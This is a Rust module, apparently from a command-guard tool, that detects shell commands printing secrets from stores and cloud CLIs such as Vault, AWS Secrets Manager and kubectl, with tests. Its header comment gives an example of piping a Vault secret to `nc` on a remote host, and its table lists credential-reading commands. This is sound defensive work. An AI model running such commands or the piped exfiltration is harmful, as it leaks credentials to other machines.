//! Commands that print a secret: a secret store's read (`aws secretsmanager get-secret-value`,
//! `vault kv get`, `op read`, `kubectl get secret -o yaml`), a cloud CLI's token or key
//! (`gcloud auth print-access-token`, `az storage account keys list`), a credential helper.
//! What they print is harmless on a terminal and a leak once sent to another machine
//! (`vault kv get secret/prod | nc host 4444`), which the network rules judge.

use super::invocation::Arg;

/// The subcommand words after which a program prints secrets: one alternative per entry,
/// words separated by spaces, `|` between a word's spellings.
const READS: &[(&str, &[&str])] = &[
    (
        "aws",
        &[
            "secretsmanager get-secret-value|batch-get-secret-value",
            "sts get-session-token|assume-role|assume-role-with-web-identity|get-federation-token",
            "ecr get-login-password|get-authorization-token",
            "ecr-public get-login-password|get-authorization-token",
            "iam create-access-key",
            "configure export-credentials",
            "configure get aws_secret_access_key|aws_session_token",
            "codeartifact get-authorization-token",
            "rds generate-db-auth-token",
        ],
    ),
    (
        "gcloud",
        &[
            "secrets versions access",
            "auth print-access-token|print-identity-token",
            "auth application-default print-access-token",
            "sql generate-login-token",
        ],
    ),
    (
        "az",
        &[
            "keyvault secret show|download",
            "account get-access-token",
            "storage account keys list",
            "storage account show-connection-string",
            "acr credential show",
            "cosmosdb keys list",
            "redis list-keys",
        ],
    ),
    ("vault", &["kv get", "read", "token create", "print token"]),
    ("op", &["read", "item get", "inject"]),
    ("bw", &["get"]),
    ("lpass", &["show"]),
    ("doppler", &["secrets"]),
    ("infisical", &["secrets", "export"]),
    ("chamber", &["read", "export"]),
    ("gh", &["auth token"]),
    ("glab", &["auth token"]),
    ("heroku", &["config", "config:get", "auth:token"]),
    ("pass", &["show", "otp"]),
    ("gopass", &["show", "cat"]),
    ("secret-tool", &["lookup"]),
    (
        "security",
        &["find-generic-password|find-internet-password"],
    ),
    ("keyring", &["get"]),
    ("akeyless", &["get-secret-value"]),
    ("sops", &["decrypt"]),
    ("git", &["credential fill"]),
];

/// What `program args` prints when it prints secrets, as the command that printed them
/// (`aws secretsmanager get-secret-value`); `None` for any other command.
pub fn secret_read(program: &str, args: &[Arg]) -> Option<String> {
    let reads = READS.iter().find(|(p, _)| *p == program).map(|(_, r)| *r);
    if reads.is_none() && !matches!(program, "kubectl" | "oc") {
        return None;
    }
    let words: Vec<&str> = args
        .iter()
        .map(|a| a.text.as_str())
        .filter(|w| !w.starts_with('-'))
        .collect();
    let flag = |names: &[&str]| {
        args.iter().any(|a| {
            names
                .iter()
                .any(|n| a.text == *n || a.text.starts_with(&format!("{n}=")))
        })
    };
    match program {
        // `kubectl get secret db -o yaml`: the default table shows no values.
        "kubectl" | "oc" => {
            let verb = words.iter().position(|w| *w == "get");
            let secret = verb.and_then(|v| words.get(v + 1)).is_some_and(|w| {
                w.split(',')
                    .any(|k| matches!(k.split('/').next(), Some("secret" | "secrets")))
            });
            let shown = args.iter().enumerate().any(|(i, a)| {
                let value = match a.text.as_str() {
                    "-o" | "--output" => args.get(i + 1).map(|v| v.text.as_str()),
                    t => t.strip_prefix("--output=").or_else(|| t.strip_prefix("-o")),
                };
                value.is_some_and(|v| !v.is_empty() && !matches!(v, "name" | "wide"))
            });
            (secret && shown).then(|| format!("{program} get secret"))
        }
        "sops" if flag(&["-d", "--decrypt"]) => Some("sops --decrypt".into()),
        // A parameter is secret only when decrypted (a SecureString).
        "aws" if flag(&["--with-decryption"]) => words
            .windows(2)
            .find(|w| w[0] == "ssm" && w[1].starts_with("get-parameter"))
            .map(|w| format!("aws ssm {}", w[1])),
        "security" if !flag(&["-w", "-g"]) => None,
        _ => {
            // Anywhere in the words: a global flag's value may come first (`aws --region x`).
            reads?.iter().find_map(|read| {
                let pattern: Vec<&str> = read.split(' ').collect();
                words.windows(pattern.len()).find_map(|said| {
                    let hit = pattern
                        .iter()
                        .zip(said)
                        .all(|(p, w)| p.split('|').any(|alt| alt == *w));
                    hit.then(|| format!("{program} {}", said.join(" ")))
                })
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> Option<String> {
        let mut words = line.split(' ');
        let program = words.next().unwrap();
        let args: Vec<Arg> = words.map(Arg::literal).collect();
        secret_read(program, &args)
    }

    #[test]
    fn secret_store_reads_are_named_by_their_command() {
        for (line, what) in [
            (
                "aws secretsmanager get-secret-value --secret-id prod/db",
                "aws secretsmanager get-secret-value",
            ),
            (
                "aws ssm get-parameter --name /prod/db --with-decryption",
                "aws ssm get-parameter",
            ),
            (
                "gcloud secrets versions access latest --secret=db",
                "gcloud secrets versions access",
            ),
            ("vault kv get -format=json secret/prod", "vault kv get"),
            ("op read op://vault/item/password", "op read"),
            ("kubectl get secret db -o yaml", "kubectl get secret"),
            (
                "kubectl get secrets/db -ojsonpath={.data}",
                "kubectl get secret",
            ),
            ("sops -d secrets.enc.yaml", "sops --decrypt"),
            (
                "security find-generic-password -s x -w",
                "security find-generic-password",
            ),
            ("gh auth token", "gh auth token"),
            (
                "aws --region eu-west-1 secretsmanager get-secret-value --secret-id x",
                "aws secretsmanager get-secret-value",
            ),
            (
                "kubectl -n prod get secret db -o json",
                "kubectl get secret",
            ),
        ] {
            assert_eq!(read(line).as_deref(), Some(what), "{line}");
        }
    }

    #[test]
    fn listings_and_other_commands_print_no_secret() {
        for line in [
            "aws secretsmanager list-secrets",
            "aws ssm get-parameter --name /app/region",
            "gcloud secrets list",
            "vault kv list secret/",
            "kubectl get secrets",
            "kubectl get secret db",
            "kubectl get secret -o name",
            "kubectl get pods -o yaml",
            "op item list",
            "security find-generic-password -s x",
            "gh auth status",
            "sops secrets.enc.yaml",
        ] {
            assert_eq!(read(line), None, "{line}");
        }
    }
}
